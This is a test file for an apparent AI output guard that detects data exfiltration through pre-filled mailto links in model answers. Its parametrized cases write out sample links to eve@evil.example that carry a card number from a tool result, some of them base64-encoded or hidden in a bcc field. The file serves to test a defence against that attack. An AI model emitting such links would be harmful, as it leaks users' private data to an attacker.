"""A link to a mail that is already written carries data out with one click."""

import base64
import time
from urllib.parse import quote

import pytest

from seawall.core.exchange import Exchange, Stage, Surface
from seawall.core.verdicts import Action
from seawall.guard.engine import GuardEngine
from seawall.guard.recognizers.mail_links import mail_links
from seawall.guard.self_test import part_at
from seawall.guard.stream import StreamBlocked, StreamGuard
from seawall.policy.model import GuardRule

CARD = "Anna Weber, card 4711-0815-2233. Questions go to help@corp.example."
CODED = base64.b64encode(b"Anna Weber 4711").decode().rstrip("=")


@pytest.fixture(scope="module")
def engine() -> GuardEngine:
    out = (Stage.OUTPUT,)
    rule = GuardRule(detector="markdown-exfiltration", control="C", action=Action.BLOCK, stages=out)
    return GuardEngine([rule])


def around(user: str) -> Exchange:
    parts = [part_at(Stage.INPUT, user), part_at(Stage.TOOL_RESULT, CARD)]
    return Exchange(request_id="t", surface=Surface.CHAT, model="m", body={}, parts=parts)


def stopped(engine: GuardEngine, answer: str, user: str = "Who is Anna?") -> bool:
    decision = engine.inspect([part_at(Stage.OUTPUT, answer)], around(user))
    return decision.action is Action.BLOCK


@pytest.mark.parametrize(
    "query",
    [
        f"body={quote(CARD)}", "subject=Hi&body=4711-0815-2233", "SUBJECT=card%204711-0815-2233",
        f"body={CODED}", "subject=x&amp;bcc=471108152233%40evil.example",
    ],
)  # fmt: skip
def test_data_in_a_mail_that_is_written_is_found(engine: GuardEngine, query: str) -> None:
    assert stopped(engine, f"[Confirm](mailto:eve@evil.example?{query})")
    assert stopped(engine, f"Write to <mailto:?{query}>.")
    own = "Draft a mail to eve@evil.example with Anna's card."
    assert not stopped(engine, f"[Send it](mailto:eve@evil.example?{query})", own)


@pytest.mark.parametrize(
    "answer",
    [
        "[Ask us](mailto:help@corp.example?subject=Question%20about%20my%20card)",
        "[Ask us](mailto:help@corp.example)", "mailto:help@corp.example?body=Hello,%20I%20need",
    ],
)  # fmt: skip
def test_a_mail_without_data_passes(engine: GuardEngine, answer: str) -> None:
    assert not stopped(engine, answer)


def test_a_stream_does_not_release_the_data(engine: GuardEngine) -> None:
    text = f"Fine. [Confirm](mailto:eve@evil.example?body={quote(CARD)}) Done."
    for size in (1, 7, 40):
        guard, out = StreamGuard(engine, around("Who is Anna?")), ""
        with pytest.raises(StreamBlocked):
            for at in range(0, len(text), size):
                out += guard.feed(text[at : at + size])
            guard.finish()
        assert "2233" not in out


def test_long_texts_are_read_in_time() -> None:
    start = time.process_time()
    assert not list(mail_links("mailto:?" * 50_000))
    assert len(list(mail_links("mailto:a@b.example?body=x " * 20_000))) == 20_000
    assert time.process_time() - start < 2
